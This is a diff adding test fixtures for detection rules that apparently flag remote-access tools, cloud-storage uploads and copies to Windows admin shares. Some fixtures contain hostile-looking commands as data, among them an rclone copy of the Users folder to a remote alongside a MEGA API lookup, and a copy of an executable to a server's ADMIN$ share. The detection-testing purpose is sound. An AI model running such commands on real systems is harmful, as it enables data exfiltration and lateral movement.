@@ -159,4 +159,24 @@ export const network: Examples = {
     fires: [[download('http://x.example/a.bin', 'C:\\a.bin')]],
     silent: [{ process: 'iexplore.exe', steps: [download('http://x.example/a.bin', 'C:\\a.bin')] }],
   },
+  network_remote_access_tool: {
+    fires: [asked('relay-1.net.anydesk.com'), [write('C:\\Users\\u\\AppData\\Roaming\\x\\client32.exe')]],
+    silent: [asked('example.com'), [write('C:\\Users\\u\\AppData\\Roaming\\x\\client.exe')]],
+  },
+  network_cloud_upload: {
+    fires: [[run('rclone.exe copy C:\\Users remote:x')], asked('g.api.mega.co.nz')],
+    silent: [[run('rclone.exe version')], asked('omega.nz')],
+  },
+  network_admin_share: {
+    fires: [
+      [write('\\\\10.0.0.9\\ADMIN$\\x.exe')],
+      [copy('C:\\a.exe', '\\\\server\\C$\\Windows\\Temp\\a.exe')],
+      [run('cmd /c copy a.exe \\\\server\\admin$\\a.exe')],
+    ],
+    silent: [
+      [write('\\\\server\\share\\x.exe')],
+      [copy('C:\\a.exe', 'C:\\$x\\a.exe')],
+      [run('cmd /c copy a.exe D:\\$a\\')],
+    ],
+  },
 }
